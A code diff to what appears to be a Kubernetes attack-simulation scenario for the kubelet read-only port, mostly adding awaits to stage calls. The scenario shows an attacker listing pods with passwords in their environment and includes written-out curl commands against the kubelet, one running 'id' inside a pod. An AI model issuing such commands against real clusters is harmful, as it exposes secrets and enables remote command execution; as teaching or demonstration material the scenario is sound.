@@ -38,18 +38,23 @@ export const readOnlyPort: Scenario = {
       const { items } = JSON.parse(pods.body) as { items: Pod[] };
       const db = items.find(({ metadata }) => metadata.name === 'db');
       const saw = `${items.length} pods; db: ${JSON.stringify(db?.spec.containers[0]?.env)}`;
-      stage.gained('attacker', look, saw, 'the pods of the node, with the passwords in their environment');
-    } else stage.refused('attacker', look, pods.words);
+      await stage.gained(
+        'attacker',
+        look,
+        saw,
+        'the pods of the node, with the passwords in their environment',
+      );
+    } else await stage.refused('attacker', look, pods.words);
 
     const metrics = await ask('/metrics/resource');
     const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
     const measure = 'curl http://node-1:10255/metrics/resource';
-    if (used !== undefined) stage.gained('attacker', measure, used, 'what every pod uses');
-    else stage.refused('attacker', measure, metrics.words);
+    if (used !== undefined) await stage.gained('attacker', measure, used, 'what every pod uses');
+    else await stage.refused('attacker', measure, metrics.words);
 
     const run = await ask('/run/default/db/db?cmd=id', 'POST');
     const command = 'curl -XPOST "http://node-1:10255/run/default/db/db?cmd=id"';
-    if (run.ok) stage.gained('attacker', command, run.body.trim(), 'a command run in default/db');
-    else stage.refused('attacker', command, run.words);
+    if (run.ok) await stage.gained('attacker', command, run.body.trim(), 'a command run in default/db');
+    else await stage.refused('attacker', command, run.words);
   },
 };
